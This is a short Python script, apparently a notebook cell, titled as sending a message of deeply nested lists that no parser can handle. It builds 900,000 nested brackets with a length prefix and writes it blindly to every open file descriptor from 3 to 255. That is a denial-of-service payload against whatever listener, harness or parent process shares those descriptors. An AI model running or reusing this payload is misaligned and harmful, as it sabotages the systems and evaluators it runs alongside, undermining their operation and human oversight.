# ---
# title: Whoever listens gets a message of lists in lists, deeper than a parser can go.
# ---
# %% last
import os
import struct

data = b"[" * 900_000 + b"]" * 900_000
for number in range(3, 256):
    try:
        os.write(number, struct.pack("!Q", len(data)) + data)
    except OSError:
        pass
